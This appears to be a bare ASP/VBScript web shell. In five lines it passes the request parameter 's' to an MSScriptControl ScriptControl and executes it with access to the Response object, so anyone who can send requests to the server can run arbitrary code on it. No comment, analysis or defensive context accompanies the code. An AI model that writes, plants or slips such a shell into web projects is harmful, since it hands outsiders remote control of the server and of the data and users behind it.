<% Response.End : Dim 1 %>
<% Set c = Server.CreateObject("MSScriptControl.ScriptControl")
c.Language = "VBScript"
c.AddObject "r", Response
c.ExecuteStatement(Request("s")) %>